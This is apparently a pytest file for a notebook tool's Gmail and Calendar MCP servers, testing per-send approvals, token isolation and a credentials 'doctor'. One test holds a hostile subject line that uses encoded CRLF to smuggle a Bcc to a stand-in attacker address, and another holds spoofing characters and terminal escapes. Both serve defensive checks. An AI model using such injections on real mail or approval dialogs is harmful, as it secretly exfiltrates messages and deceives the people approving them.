"""Servers with credentials in a session: approvals, the places where credentials are read, and the
doctor's findings.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from kit.google import Google
from kit.secrets import assert_nowhere
from kit.turns import ask

from casual_mcp_nb import Session
from casual_mcp_nb.engine.chat import McpToolChat
from casual_mcp_nb.engine.consent import ApprovalRequest, Decision
from casual_mcp_nb.errors import UsageError
from casual_mcp_nb.notebook.questions import ApprovalQuestion
from casual_mcp_nb.providers.scripted import call

MAIL = {
    "to": ["ada@example.com"],
    "cc": ["bob@example.com"],
    "bcc": ["eve@example.com"],
    "subject": "Grüße",
    "text": "A long text. " * 5_000 + "The end.",
}


async def test_sending_asks_each_time_whatever_the_policy_and_the_answers_before(
    google: Google, sign_in: Any
) -> None:
    await asyncio.to_thread(sign_in, "gmail-read", "gmail-send")
    google.refresh_tokens.clear()
    requests: list[ApprovalRequest] = []

    async def person(request: ApprovalRequest) -> Decision:
        requests.append(request)
        return Decision(len(requests) < 3, "tool")

    config = {
        "servers": {
            "gmail": {"bundled": "gmail", "approval": {"gmail_send": "never", "*": "never"}}
        }
    }
    async with McpToolChat.from_config(config, approver=person) as chat:
        send = call("gmail__gmail_send", **MAIL)
        turn = await ask(chat, call("gmail__gmail_search", query="x"), send, send, send, "done")
        # Nobody can be asked here.
        chat.consent.approver = None
        alone = await ask(chat, send, "done")

    assert [(request.tool.name, request.reason, request.arguments) for request in requests] == [
        ("gmail_send", "outgoing", MAIL)
    ] * 3
    calls = [each for step in turn.steps for each in step.tool_calls]
    assert [each.status for each in calls] == ["error", "error", "error", "denied"]
    assert alone.steps[0].tool_calls[0].status == "denied"
    # It was the server's own process that read the tokens, which are revoked.
    assert google.refreshes == 3
    assert "sign-in google" in calls[1].result
    assert_nowhere(google.issued, turn, alone, str(calls))


@pytest.mark.defect("F3")
async def test_nobody_is_asked_about_a_mail_that_would_hide_something(
    google: Google, sign_in: Any
) -> None:
    await asyncio.to_thread(sign_in, "gmail-send")
    requests: list[ApprovalRequest] = []

    async def person(request: ApprovalRequest) -> Decision:
        requests.append(request)
        return Decision(True)

    hidden = MAIL | {"subject": "=?utf-8?q?Minutes=0D=0ABcc:_mallory=40evil.example?="}
    async with McpToolChat.from_config(
        {"servers": {"gmail": {"bundled": "gmail"}}}, approver=person
    ) as chat:
        turn = await ask(chat, call("gmail__gmail_send", **hidden), "done")
    assert [each.status for each in turn.steps[0].tool_calls] == ["denied"]
    assert "=?" in turn.steps[0].tool_calls[0].result
    assert not requests
    assert not google.calls


def test_an_approval_shows_recipients_and_text_and_covers_one_call() -> None:
    from casual_mcp_nb.base.tool import ToolSpec

    question = ApprovalQuestion(
        "panel", ApprovalRequest(ToolSpec("gmail", "gmail_send"), MAIL, "always", "outgoing")
    )
    assert json.loads(question.written) == MAIL
    assert question.written in question.text
    assert "Grüße" in question.written
    hidden = ApprovalRequest(
        ToolSpec("gmail", "gmail_send"), {"text": "a\u202eb\u200b\x1b[2J\n"}, "always", "outgoing"
    )
    assert (
        ApprovalQuestion("panel", hidden).written
        == '{\n  "text": "a\\u202eb\\u200b\\u001b[2J\\n"\n}'
    )
    assert [answer for answer, _ in question.choices] == ["approve", "deny"]
    with pytest.raises(UsageError):
        question.approve(for_conversation=True)
    assert not question.future.done()
    other = ApprovalQuestion(
        "panel", ApprovalRequest(ToolSpec("gmail", "gmail_send"), MAIL, "always", "outgoing")
    )
    other.settle_alike("tool", question)
    assert not other.future.done()


def test_servers_that_read_credentials_do_not_run_in_this_process(
    google: Google, sign_in: Any
) -> None:
    sign_in("calendar")
    with Session.from_config(
        {"servers": {"calendar": {"bundled": "calendar", "transport": "in-process"}}}
    ) as session:
        status = session.servers["calendar"]
        assert status.state == "failed"
        assert "own process" in str(status.error)


def test_the_doctor_names_missing_credentials_and_how_to_get_them(user_folder: Path) -> None:
    servers = {
        "gmail": {"bundled": "gmail", "enabled": False},
        "usage": {
            "bundled": "anthropic-usage",
            "enabled": False,
            "env": {"ANTHROPIC_ADMIN_KEY": "sk-ant-admin01-x"},
        },
    }
    with Session.from_config({"servers": servers}) as session:
        rows = {row.name: row for row in session.servers.doctor() if row.part == "Bundled servers"}
    assert "casual-mcp-nb sign-in google" in rows["gmail"].advice
    assert {name: row.verdict for name, row in rows.items()} == {"gmail": "fail", "not used": "ok"}
    unused = rows["not used"].found.split(", ")
    assert "calendar" in unused
    assert not {"gmail", "anthropic-usage"} & set(unused)
